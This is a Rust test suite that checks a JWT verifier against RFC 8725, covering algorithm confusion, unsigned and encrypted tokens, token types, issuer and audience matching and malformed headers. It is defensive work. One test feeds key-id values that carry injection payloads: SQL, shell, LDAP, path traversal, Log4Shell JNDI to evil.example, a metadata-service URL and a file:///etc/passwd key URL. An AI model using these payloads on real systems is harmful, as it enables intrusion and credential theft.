//! The list of RFC 8725, point by point. What is wrong with forms, headers and claims by themselves: `hostile.rs`.

use taskiq_flow_testkit::signing::SigningKey;

use super::asymmetric::{key, verifying};
use super::*;

/// All keys there are, and one issuer and audience.
fn server() -> JwtVerifier {
    let keys = asymmetric::keys().iter().map(|key| verifying(key, Some(key.algorithm())));
    let trust = Trust::new(keys.chain([shared_key()]).collect()).unwrap();
    let trust = trust.with_issuers(vec!["idp".to_owned()]).with_audiences(vec!["flow".to_owned()]);
    JwtVerifier::new(vec![trust]).unwrap()
}

fn good() -> Value {
    serde_json::from_str(&with(json!({ "iss": "idp", "aud": "flow" }))).unwrap()
}

#[test]
fn section_3_1_only_listed_algorithms_in_their_exact_spelling_each_with_its_own_key() {
    let names =
        ["none", "None", "nOnE", "NONE", "hs256", "Hs256", "HS384", "HS512", "ES512", "ES256K", "RSA1_5"];
    for name in names {
        for kid in [None, Some("RS256"), Some("ES256")] {
            let header = json!({ "alg": name, "kid": kid.unwrap_or("x") }).to_string();
            for token in [signed(&header, &good().to_string()), key("RS256").signed(&header, &good())] {
                assert_eq!(server().verify(&token, now()).unwrap_err(), JwtError::Algorithm, "{header}");
            }
        }
    }
    // Every algorithm's name with every other key's name and signature.
    for named in asymmetric::keys() {
        for signing in asymmetric::keys() {
            for kid in asymmetric::keys() {
                let same = named.algorithm() == signing.algorithm() && kid.algorithm() == named.algorithm();
                let header = json!({ "alg": named.algorithm(), "kid": kid.algorithm() }).to_string();
                let verified = server().verify(&signing.signed(&header, &good()), now());
                assert_eq!(verified.is_ok(), same, "{header} signed by {}", signing.algorithm());
            }
        }
    }
}

#[test]
fn section_3_2_no_nested_or_encrypted_token_and_no_unsigned_one() {
    let token = signed(HS256, &good().to_string());
    let (message, _) = token.rsplit_once('.').unwrap();
    for token in [
        format!("{message}."),
        message.to_owned(),
        // Five parts: encrypted (RFC 7516), which is never asked for and so is never opened.
        format!("{message}.x.y.z"),
        signed(r#"{"alg":"HS256","cty":"JWT","enc":"A128GCM"}"#, &token),
        signed(r#"{"alg":"PBES2-HS256+A128KW","p2c":2147483647,"p2s":"x","enc":"A128GCM"}"#, &token),
        signed(r#"{"alg":"dir","enc":"A256GCM","zip":"DEF"}"#, &token),
        signed(r#"{"alg":"HS256","cty":"JWT"}"#, &token),
    ] {
        assert!(server().verify(&token, now()).is_err(), "{token}");
    }
}

#[test]
fn section_3_5_and_3_12_a_token_for_something_else_is_refused() {
    let typed = |required: &str| {
        let trust = trust().with_audiences(vec!["flow".to_owned()]).with_required_type(Some(required));
        JwtVerifier::new(vec![trust]).unwrap()
    };
    let full = json!({
        "iss": "idp", "aud": "flow", "client_id": "app", "iat": NOW - 10, "jti": "1",
    });
    for (required, header, result) in [
        ("at+jwt", r#"{"alg":"HS256","typ":"at+jwt"}"#, Ok(())),
        ("application/at+jwt", r#"{"alg":"HS256","typ":"AT+JWT"}"#, Ok(())),
        ("at+jwt", r#"{"alg":"HS256","typ":"application/at+JWT"}"#, Ok(())),
        ("at+jwt", r#"{"alg":"HS256","typ":"JWT"}"#, Err(JwtError::Type)),
        ("at+jwt", r#"{"alg":"HS256"}"#, Err(JwtError::Type)),
        ("at+jwt", r#"{"alg":"HS256","typ":"at+jwt;x=1"}"#, Err(JwtError::Type)),
        ("at+jwt", r#"{"alg":"HS256","typ":"text/at+jwt"}"#, Err(JwtError::Type)),
        ("at+jwt", r#"{"alg":"HS256","typ":"dpop+jwt"}"#, Err(JwtError::Type)),
        ("x+jwt", r#"{"alg":"HS256","typ":"at+jwt"}"#, Err(JwtError::Type)),
        ("x+jwt", r#"{"alg":"HS256","typ":"x+jwt"}"#, Ok(())),
    ] {
        let verified = typed(required).verify(&signed(header, &with(full.clone())), now()).map(|_| ());
        assert_eq!(verified, result, "{header} where {required} is required");
    }
    // Without a required type: ID tokens' cousins are refused all the same.
    for typ in ["logout+jwt", "dpop+jwt", "secevent+jwt", "entity-statement+jwt", "kb+jwt", "text/jwt"] {
        let header = json!({ "alg": "HS256", "typ": typ }).to_string();
        assert_eq!(refused(&signed(&header, &claims().to_string())), JwtError::Type, "{typ}");
    }
    // RFC 9068: an access token has all of these; an ID token under its name has not.
    for missing in ["iss", "client_id", "iat", "jti", "aud"] {
        let mut claims: Value = serde_json::from_str(&with(full.clone())).unwrap();
        claims.as_object_mut().unwrap().remove(missing);
        let token = signed(r#"{"alg":"HS256","typ":"at+jwt"}"#, &claims.to_string());
        let error = typed("at+jwt").verify(&token, now()).unwrap_err();
        assert_eq!(error, JwtError::Missing(missing));
    }
}

#[test]
fn section_3_8_and_3_9_issuer_and_audience_are_checked_exactly() {
    for (changes, good) in [
        (json!({}), true),
        (json!({ "aud": ["x", "flow"] }), true),
        (json!({ "iss": "IDP" }), false),
        (json!({ "iss": "idp/" }), false),
        (json!({ "iss": "idp\u{0}" }), false),
        (json!({ "iss": ["idp"] }), false),
        (json!({ "iss": null }), false),
        (json!({ "aud": "Flow" }), false),
        (json!({ "aud": "flow " }), false),
        (json!({ "aud": [] }), false),
        (json!({ "aud": ["x"] }), false),
        (json!({ "aud": {"flow": true} }), false),
        (json!({ "aud": null }), false),
    ] {
        let mut all = json!({ "iss": "idp", "aud": "flow" });
        all.as_object_mut().unwrap().extend(changes.as_object().unwrap().clone());
        assert_eq!(server().verify(&signed(HS256, &with(all)), now()).is_ok(), good, "{changes}");
    }
}

#[test]
fn section_3_10_claims_and_headers_of_the_token_are_no_places_to_look() {
    let attacker = SigningKey::generate("RS256", "RS256");
    for kid in [
        "../../../../dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT 'secret' --",
        "| sleep 10",
        "http://169.254.169.254/",
        "*)(uid=*",
        "%00",
        "${jndi:ldap://evil.example}",
        "",
    ] {
        for header in [
            json!({ "alg": "RS256", "kid": kid }),
            json!({ "alg": "RS256", "kid": kid, "jku": "https://evil.example/jwks.json" }),
            json!({ "alg": "RS256", "kid": kid, "x5u": "file:///etc/passwd", "jwk": attacker.jwk() }),
        ] {
            let token = attacker.signed(&header.to_string(), &good());
            assert_eq!(server().verify(&token, now()).unwrap_err(), JwtError::UnknownKid, "{header}");
        }
    }
}

#[test]
fn section_3_4_and_3_7_keys_and_text_are_checked() {
    let not_utf8 = [b"{\"alg\":\"HS256\",\"x\":\"\xff\"}".as_slice(), b"\xff\xfe{\0"];
    for header in not_utf8 {
        use base64::Engine as _;
        let header = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(header);
        assert_eq!(refused(&format!("{header}.e30.AAAA")), JwtError::Header);
    }
    assert_eq!(VerifyingKey::hs256(&"".into()).unwrap_err(), JwtKeyError::EmptySecret);
}
